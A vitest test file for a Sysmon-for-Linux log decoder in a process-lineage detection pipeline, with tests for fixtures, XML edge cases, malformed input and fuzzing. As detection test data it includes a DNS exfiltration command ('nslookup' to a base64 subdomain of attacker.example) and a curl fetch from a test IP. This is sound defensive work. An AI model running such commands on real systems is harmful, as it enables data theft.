import { readFileSync } from "node:fs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { MemoryDedupStore } from "../../../lib/alerts/dedup-store.js";
import { MemoryLineageStore } from "../../../lib/lineage/memory-store.js";
import { processKey } from "../../../lib/lineage/process-record.js";
import { newCounters } from "../../../lib/pipeline/counters.js";
import { processBatch } from "../../../lib/pipeline/process-batch.js";
import { compileRule } from "../../../lib/rule/compile-rule.js";
import type { DecodeOutput, ProcessExit, RawRecord } from "../../../lib/telemetry/decoder.js";
import type { ExecEvent } from "../../../lib/telemetry/exec-event.js";
import { decodeXmlEntities, sysmonLinuxDecoder } from "../../../lib/telemetry/sources/sysmon-linux.js";
import { detect } from "../../helpers/exec-events.js";

const ctx = { defaultHost: "stream-host" };

/**
 * The fixture's records, each with its line number in the file. `#` lines are the fixtures' provenance
 * headers, not telemetry: the test strips them, the decoder is never asked to.
 */
const fixture = (name: string): RawRecord[] =>
  readFileSync(new URL(`../../fixtures/sysmon/${name}`, import.meta.url), "utf8")
    .split("\n")
    .map((text, i) => ({ text, line: i + 1 }))
    .filter((r) => r.text !== "" && !r.text.startsWith("#"));

const decodeRecord = (r: RawRecord): DecodeOutput => sysmonLinuxDecoder.decodeText(r.text, r, ctx);
const decode = (text: string): DecodeOutput => decodeRecord({ text, line: 3 });
const eventOf = (text: string): ExecEvent => {
  const out = decode(text);
  if (out.kind !== "event") throw new Error(`${out.kind}: ${out.reason}`);
  return out.event;
};

const SH_GUID = "{5f1a9c3e-3a10-6942-e01d-7b43a2550000}";
const NS_GUID = "{5f1a9c3e-3a10-6942-a87c-1c9e4d560000}";
const BASH_GUID = "{5f1a9c3e-2f88-6942-1f03-9d0ab7550000}";
const ZERO_GUID = "{00000000-0000-0000-0000-000000000000}";

const escapeText = (text: string): string =>
  text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;");

interface LineSpec {
  eventId?: string;
  computer?: string;
  prefix?: string;
  /** Data values, already escaped (so a test can write entities); `null` drops the field. */
  data?: Record<string, string | null>;
}

/** A ProcessCreate line in the fixtures' shape, with fields replaced or dropped. */
const line = (spec: LineSpec = {}): string => {
  const data: Record<string, string | null> = {
    RuleName: "-",
    UtcTime: "2026-11-27 10:00:00.123",
    ProcessGuid: SH_GUID,
    ProcessId: "4100",
    Image: "/usr/bin/dash",
    CommandLine: "sh /tmp/x.sh",
    CurrentDirectory: "/tmp",
    User: "www-data",
    ParentProcessGuid: BASH_GUID,
    ParentProcessId: "4000",
    ParentImage: "/usr/bin/bash",
    ParentCommandLine: "bash",
    ParentUser: "www-data",
    ...spec.data,
  };
  const fields = Object.entries(data)
    .filter((entry): entry is [string, string] => entry[1] !== null)
    .map(([name, value]) => `<Data Name="${name}">${value}</Data>`)
    .join("");
  return (
    (spec.prefix ?? "Nov 27 10:00:00 web-01 sysmon: ") +
    `<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/>` +
    `<EventID>${spec.eventId ?? "1"}</EventID><Version>5</Version>` +
    `<TimeCreated SystemTime="2026-11-27T10:00:00.124391000Z"/><EventRecordID>16525</EventRecordID>` +
    `<Computer>${spec.computer ?? "web-01"}</Computer></System><EventData>${fields}</EventData></Event>`
  );
};

describe("sysmonLinuxDecoder on the attack-chain fixture", () => {
  const records = fixture("attack-chain.log");
  const outs = records.map(decodeRecord);

  it("recognises every line", () => {
    for (const r of records) expect(sysmonLinuxDecoder.matchesText(r.text)).toBe(true);
  });

  it("decodes EventID 1 of the shell running a /tmp script", () => {
    expect(outs[0]).toEqual({
      kind: "event",
      line: 9,
      event: {
        host: { name: "web-01" },
        user: { name: "www-data" },
        process: {
          pid: 4100,
          ppid: 4000,
          executable: "/usr/bin/dash",
          args: ["sh", "/tmp/x.sh"],
          cwd: "/tmp",
          entityId: SH_GUID,
        },
        parent: { pid: 4000, executable: "/usr/bin/bash", args: ["bash"], entityId: BASH_GUID },
        time: Date.parse("2026-11-27T10:00:00.123Z"),
        source: { format: "sysmon", eventId: `web-01:16525:4100:${Date.parse("2026-11-27T10:00:00.123Z")}` },
      },
    });
  });

  it("decodes its nslookup child, linked by pid and ProcessGuid", () => {
    const out = outs[1]!;
    if (out.kind !== "event") throw new Error(out.kind);
    expect(out.event.process).toMatchObject({
      pid: 4101,
      ppid: 4100,
      executable: "/usr/bin/nslookup",
      args: ["nslookup", "c2VjcmV0.exfil.attacker.example"],
      entityId: NS_GUID,
    });
    expect(out.event.parent).toEqual({
      pid: 4100,
      executable: "/usr/bin/dash",
      args: ["sh", "/tmp/x.sh"],
      entityId: SH_GUID,
    });
  });

  it("skips EventID 3 (network connection) without an exit", () => {
    expect(outs[2]).toEqual({
      kind: "skipped",
      line: 11,
      reason: "sysmon: EventID 3 (NetworkConnect) is not a process creation",
    });
  });

  it("skips EventID 5 (process terminated) and reports the exit for lineage eviction", () => {
    expect(outs[3]).toEqual({
      kind: "skipped",
      line: 12,
      reason: "sysmon: EventID 5 (process terminated) is not a process creation",
      exit: { host: "web-01", pid: 4101, time: Date.parse("2026-11-27T10:00:00.152Z"), entityId: NS_GUID },
    });
    expect(outs[4]).toMatchObject({ kind: "skipped", exit: { pid: 4100, entityId: SH_GUID } });
  });

  it("turns the chain into the nslookup alert located at /tmp/x.sh", async () => {
    const events = outs.flatMap((o) => (o.kind === "event" ? [o.event] : []));
    const { alerts } = await detect(events);
    expect(alerts).toHaveLength(1);
    expect(alerts[0]).toMatchObject({ utility: { name: "nslookup" }, location: { path: "/tmp/x.sh" } });
  });

  it("evicts both records once the exits are processed", async () => {
    const events = outs.flatMap((o) => (o.kind === "event" ? [o.event] : []));
    const exits = outs.flatMap((o): ProcessExit[] => (o.kind === "skipped" && o.exit ? [o.exit] : []));
    expect(exits).toHaveLength(2);
    const store = new MemoryLineageStore();
    const deps = { store, dedup: new MemoryDedupStore(), rule: compileRule({}) };
    const alerts = await processBatch(events, deps, newCounters(), exits);
    expect(alerts).toHaveLength(1);
    const left = await store.getMany([processKey("web-01", 4100), processKey("web-01", 4101)]);
    expect(left.size).toBe(0);
  });
});

describe("sysmonLinuxDecoder on the edge-case fixture", () => {
  const outs = fixture("edge-cases.log").map(decodeRecord);
  const event = (i: number): ExecEvent => {
    const out = outs[i]!;
    if (out.kind !== "event") throw new Error(`${out.kind}: ${out.reason}`);
    return out.event;
  };

  it("keeps a parent Sysmon could not read as a pid only (`-` values, all-zero GUID)", () => {
    const e = event(0);
    expect(e.process).toMatchObject({ pid: 5120, ppid: 2210, executable: "/usr/bin/curl", cwd: "/var/www" });
    expect(e.parent).toEqual({ pid: 2210 });
  });

  it("drops an all-zero ProcessGuid and reads a line without a syslog header", () => {
    const e = event(1);
    expect(e.process.entityId).toBeUndefined();
    expect(e.process).toMatchObject({ pid: 5200, executable: "/usr/bin/id", args: ["id"] });
    expect(e.host).toEqual({ name: "web-01" });
  });

  it("decodes entities in the command line, behind an RFC 5424 header", () => {
    expect(event(2).process.args).toEqual([
      "sh",
      "-c",
      "curl",
      "-s",
      '"http://198.51.100.7/a?x=1&y=2"',
      ">/tmp/o",
      "&&",
      "cat",
      "</tmp/o",
    ]);
  });

  it("reads a line behind an rsyslog RFC 3339 timestamp", () => {
    expect(event(3)).toMatchObject({
      host: { name: "web-01" },
      process: { pid: 5400, executable: "/usr/bin/wget" },
      time: Date.parse("2026-11-27T10:08:00.500Z"),
    });
  });
});

describe("sysmonLinuxDecoder traps", () => {
  it.each([
    ["&lt;&gt;&amp;&quot;&apos;", `<>&"'`],
    ["a&#27;[0mb", "a\u001b[0mb"],
    ["&#x41;&#X42;&#67;", "ABC"],
    ["&#x1F600;", "😀"],
    ["no entities", "no entities"],
  ])("decodes entities in %j", (raw, expected) => {
    expect(decodeXmlEntities(raw)).toBe(expected);
    expect(eventOf(line({ data: { CommandLine: `echo ${raw}` } })).process.args[1]).toBe(
      expected.split(" ")[0],
    );
  });

  it.each([
    ["an unknown entity", "a&nbsp;b"],
    ["an unterminated entity", "a &amp b"],
    ["a bare ampersand", "a & b"],
    ["NUL", "&#0;"],
    ["a surrogate half", "&#xD800;"],
    ["beyond Unicode", "&#x110000;"],
    ["an empty numeric entity", "&#;"],
    ["a hex digit in a decimal entity", "&#1F;"],
  ])("an entity that XML does not define (%s) → malformed", (_name, raw) => {
    expect(decodeXmlEntities(raw)).toBeUndefined();
    expect(decode(line({ data: { CommandLine: raw } }))).toMatchObject({
      kind: "malformed",
      reason: "sysmon: malformed XML: unknown or unterminated entity in <CommandLine>",
    });
  });

  it("reports every cut of a line (a syslog size limit) as malformed", () => {
    const full = line();
    for (let cut = 0; cut < full.length; cut++) {
      const out = decode(full.slice(0, cut));
      expect(out.kind, `cut at ${cut}`).toBe("malformed");
    }
    expect(decode(full.slice(0, full.lastIndexOf("</Data>")))).toMatchObject({
      reason: "sysmon: truncated XML: <Data> is not closed",
    });
  });

  it.each([
    [
      "mismatched tags",
      line().replace("</Computer>", "</Comp>"),
      "sysmon: malformed XML: </Comp> closes <Computer>",
    ],
    [
      "an unquoted attribute",
      line().replace('Name="Image"', "Name=Image"),
      "sysmon: malformed XML: an attribute value without quotes",
    ],
    [
      "no <Event>",
      "Nov 27 10:00:00 web-01 sysmon: <EventData><EventID>1</EventID>",
      "sysmon: no <Event> element in the line",
    ],
    ["no EventID", line().replace("<EventID>1</EventID>", ""), "sysmon: <EventID> is missing"],
    ["EventID not a number", line({ eventId: "one" }), 'sysmon: EventID "one" is not a number'],
    ["ProcessId -", line({ data: { ProcessId: "-" } }), "sysmon: ProcessId is missing"],
    ["ProcessId missing", line({ data: { ProcessId: null } }), "sysmon: ProcessId is missing"],
    [
      "ProcessId not a number",
      line({ data: { ProcessId: "41a" } }),
      'sysmon: ProcessId "41a" is not a number',
    ],
    ["Image -", line({ data: { Image: "-" } }), "sysmon: Image is missing"],
    [
      "ParentProcessId garbage",
      line({ data: { ParentProcessId: "x" } }),
      'sysmon: ParentProcessId "x" is not a number',
    ],
    [
      "UtcTime garbage",
      line({ data: { UtcTime: "yesterday" } }),
      'sysmon: UtcTime "yesterday" is not a date',
    ],
    [
      "no time at all",
      line({ data: { UtcTime: null } }).replace(/<TimeCreated[^>]*>/, ""),
      "sysmon: the event has neither UtcTime nor TimeCreated",
    ],
    ["a closing tag of another element", "<Event ><x></y>", "sysmon: malformed XML: </y> closes <x>"],
    [
      "nesting too deep",
      `<Event>${"<a>".repeat(50)}<EventID>1</EventID>`,
      "sysmon: malformed XML: nested deeper than 8",
    ],
  ])("%s → malformed", (_name, text, reason) => {
    expect(decode(text)).toMatchObject({ kind: "malformed", reason });
  });

  it("treats ParentProcessId `-` as an unknown parent: ppid 0, no parent", () => {
    const e = eventOf(
      line({ data: { ParentProcessId: "-", ParentImage: "-", ParentProcessGuid: ZERO_GUID } }),
    );
    expect(e.process.ppid).toBe(0);
    expect(e.parent).toBeUndefined();
  });

  it("flags a missing command line as truncated args", () => {
    const e = eventOf(line({ data: { CommandLine: "-" } }));
    expect(e.process.args).toEqual([]);
    expect(e.process.argsTruncated).toBe(true);
  });

  it("falls back to TimeCreated when UtcTime is absent", () => {
    expect(eventOf(line({ data: { UtcTime: null } })).time).toBe(Date.parse("2026-11-27T10:00:00.124Z"));
  });

  it.each([
    ["Computer", line(), "web-01"],
    ["an RFC 3164 header", line({ computer: "", prefix: "Nov 27 10:00:00 db-02 sysmon: " }), "db-02"],
    [
      "an RFC 3164 header with a pid",
      line({ computer: "", prefix: "Nov 27 10:00:00 db-02 sysmon[812]: " }),
      "db-02",
    ],
    [
      "an RFC 5424 header",
      line({ computer: "", prefix: "<134>1 2026-11-27T10:00:00Z db-03 sysmon 812 - - " }),
      "db-03",
    ],
    [
      "a header without a host",
      line({ computer: "", prefix: "<134>Nov 27 10:00:00 sysmon: " }),
      "stream-host",
    ],
    ["nothing", line({ computer: "", prefix: "" }), "stream-host"],
  ])("host from %s", (_name, text, expected) => {
    expect(eventOf(text).host).toEqual({ name: expected });
  });

  it.each([
    ["11", "sysmon: EventID 11 (FileCreate) is not a process creation"],
    ["23", "sysmon: EventID 23 (FileDelete) is not a process creation"],
    ["22", "sysmon: EventID 22 is not a process creation"],
    ["255", "sysmon: EventID 255 (Error) is not a process creation"],
  ])("skips EventID %s", (eventId, reason) => {
    expect(decode(line({ eventId }))).toEqual({ kind: "skipped", line: 3, reason });
  });

  it("skips an EventID 5 it cannot match to a record without an exit", () => {
    const out = decode(line({ eventId: "5", data: { ProcessId: "-" } }));
    expect(out).toMatchObject({ kind: "skipped" });
    expect(out.kind === "skipped" && out.exit).toBeFalsy();
  });

  it("reads the Windows event namespace, single quotes, CDATA, comments and a declaration", () => {
    const text = line()
      .replace(
        "<Event>",
        '<?xml version="1.0"?><Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">',
      )
      .replace(
        '<Data Name="Image">/usr/bin/dash</Data>',
        "<Data Name='Image'><![CDATA[/usr/bin/dash]]></Data><!-- x -->",
      );
    expect(eventOf(text).process.executable).toBe("/usr/bin/dash");
  });

  it("keeps the first of two Data elements of one name", () => {
    const text = line().replace("</EventData>", '<Data Name="Image">/tmp/evil</Data></EventData>');
    expect(eventOf(text).process.executable).toBe("/usr/bin/dash");
  });

  it("ignores what follows </Event>", () => {
    expect(eventOf(`${line()} trailing <junk`).process.pid).toBe(4100);
  });

  it("recognises Sysmon lines only", () => {
    expect(sysmonLinuxDecoder.matchesText(line())).toBe(true);
    expect(sysmonLinuxDecoder.matchesText("type=SYSCALL msg=audit(1.000:1): syscall=59")).toBe(false);
    expect(sysmonLinuxDecoder.matchesText('{"columns":{"cmdline":"<Event>"}}')).toBe(false);
    expect(sysmonLinuxDecoder.matchesText("Nov 27 10:00:00 web-01 sshd[1]: Accepted key")).toBe(false);
  });
});

describe("sysmonLinuxDecoder on hostile text", () => {
  const kinds = ["event", "skipped", "malformed"];
  const valid = line({ data: { CommandLine: escapeText(`sh -c "a & b <c>"`) } });

  it("stays linear on 256 KiB of pathological input", () => {
    const size = 256 * 1024;
    const inputs = [
      `<Event>${"&".repeat(size)}`,
      `<Event><System><EventID>${"&amp".repeat(size / 4)}`,
      `<Event ${"a".repeat(size)}`,
      `<Event ${'a="'.repeat(size / 3)}`,
      `<Event>${"<a/>".repeat(size / 4)}`,
      `<Event>${"<".repeat(size)}`,
      `${"<Event".repeat(size / 6)}`,
      `<Event><EventData>${'<Data Name="x">'.repeat(size / 16)}`,
      `${" sysmon".repeat(size / 7)}<Event><EventID>1</EventID></Event>`,
      `<Event>${"<!--".repeat(size / 4)}`,
    ];
    for (const text of inputs) {
      const started = performance.now();
      expect(kinds).toContain(decode(text).kind);
      expect(performance.now() - started).toBeLessThan(1000);
    }
  });

  it("never throws on arbitrary text", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 400 }), (text) => {
        expect(kinds).toContain(decode(text).kind);
        expect(kinds).toContain(decode(`<Event><System><EventID>1</EventID></System>${text}`).kind);
      }),
    );
  });

  it("never throws on mutations of a valid line", () => {
    const alphabet = fc.constantFrom(
      "<",
      ">",
      "/",
      "&",
      ";",
      "#",
      "x",
      '"',
      "'",
      "=",
      " ",
      "-",
      "1",
      "\u0000",
    );
    fc.assert(
      fc.property(
        fc.array(
          fc.record({
            at: fc.nat({ max: valid.length }),
            cut: fc.nat({ max: 8 }),
            insert: fc.string({ unit: alphabet, maxLength: 6 }),
          }),
          { maxLength: 6 },
        ),
        (edits) => {
          let text = valid;
          for (const { at, cut, insert } of edits) text = text.slice(0, at) + insert + text.slice(at + cut);
          const out = decode(text);
          expect(kinds).toContain(out.kind);
          if (out.kind === "malformed") expect(out.reason).toMatch(/^sysmon: /);
        },
      ),
    );
  });
});
